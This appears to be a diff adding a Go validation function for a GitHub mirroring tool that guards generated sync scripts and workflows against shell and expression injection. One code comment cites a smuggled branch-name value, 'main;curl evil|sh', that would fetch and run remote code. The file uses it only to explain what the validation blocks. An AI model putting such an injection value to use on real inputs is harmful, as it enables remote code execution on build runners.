@@ -0,0 +1,107 @@
+package workflow
+
+import (
+	"fmt"
+	"strings"
+
+	"i2pgit.org/go-i2p/go-github-sync/pkg/config"
+)
+
+// scriptURLChars are the characters allowed in repository URLs, which the
+// sync script uses unquoted; the shell takes each of them literally.
+const scriptURLChars = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._~:/@%+=,-"
+
+// checkInputs checks the values the templates interpolate into the sync
+// script, and the workflow, against shell and expression injection, so that
+// a branch name such as "main;curl evil|sh" never runs on the runner. The
+// command line checks most of them when loading the configuration already,
+// but the options of library callers may come from anywhere. Hooks and --set
+// values are scripts and template parameters by design and are passed as
+// given.
+func checkInputs(data WorkflowTemplate) error {
+	for _, repo := range []string{data.PrimaryRepo, data.MirrorRepo} {
+		if err := checkScriptURL(repo); err != nil {
+			return err
+		}
+	}
+	if strings.Trim(data.MirrorUser, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._-") != "" {
+		return fmt.Errorf("invalid mirror user %q: only letters, numbers and . _ - are allowed", data.MirrorUser)
+	}
+
+	branches := append([]string{data.PrimaryBranch, data.MirrorBranch}, data.ExtraBranches...)
+	if data.BadgeBranch != "" {
+		branches = append(branches, data.BadgeBranch)
+	}
+	for _, branch := range branches {
+		if err := config.ValidateBranch(branch); err != nil {
+			return err
+		}
+	}
+	for _, refspec := range data.Refspecs {
+		if _, err := config.ParseRefspec(refspec.String()); err != nil {
+			return err
+		}
+	}
+
+	// Paths are single-quoted in the script, the size is not
+	for _, path := range append([]string{data.Subdirectory}, data.FilterPaths...) {
+		if strings.ContainsAny(path, "'\n") {
+			return fmt.Errorf("invalid path %q: must not contain quotes or newlines", path)
+		}
+	}
+	if strings.Trim(data.StripBlobsBiggerThan, "0123456789KMG") != "" {
+		return fmt.Errorf("invalid size: %s (must be a number with an optional K, M or G suffix)", data.StripBlobsBiggerThan)
+	}
+
+	// The trust files are embedded in here-documents, which a line with
+	// their delimiter would end
+	trustFiles := []struct{ name, content, delimiter string }{
+		{"allowed signers", data.AllowedSigners, "ALLOWED_SIGNERS"},
+		{"signing keys", data.SigningKeys, "SIGNING_KEYS"},
+	}
+	for _, file := range trustFiles {
+		for _, line := range strings.Split(file.content, "\n") {
+			if line == file.delimiter {
+				return fmt.Errorf("invalid %s: line %s is not allowed", file.name, line)
+			}
+		}
+	}
+	for _, secret := range []string{data.AuthSecret, data.TorProxySecret} {
+		if secret == "" {
+			continue
+		}
+		if err := config.ValidateSecretName(secret); err != nil {
+			return err
+		}
+	}
+
+	// Actions evaluate expressions anywhere in a workflow, even in values
+	// that are only data to gh-mirror
+	if strings.Contains(data.Environment, "${{") {
+		return fmt.Errorf("invalid environment %q: must not contain expressions", data.Environment)
+	}
+	if strings.Contains(data.KnownHosts, "${{") {
+		return fmt.Errorf("invalid known_hosts entries: must not contain expressions")
+	}
+
+	// The checkout only knows the host keys of GitHub, and connections to
+	// other hosts would fail or, with checking disabled, trust any key
+	if data.AuthMode == config.AuthModeSSH && data.KnownHosts == "" && config.IsSSHURL(data.PrimaryRepo) && !config.IsGitHubURL(data.PrimaryRepo) {
+		return fmt.Errorf("the SSH host key of the primary %s must be pinned with --known-hosts or --host-key-fingerprint", data.PrimaryRepo)
+	}
+	return nil
+}
+
+// checkScriptURL checks that repoURL consists of characters the sync script
+// can use unquoted.
+func checkScriptURL(repoURL string) error {
+	if strings.HasPrefix(repoURL, "-") {
+		return fmt.Errorf("invalid repository URL %q: must not start with -", repoURL)
+	}
+	for _, r := range repoURL {
+		if !strings.ContainsRune(scriptURLChars, r) {
+			return fmt.Errorf("invalid repository URL %q: character %q is not allowed in the sync script, percent-encode it", repoURL, r)
+		}
+	}
+	return nil
+}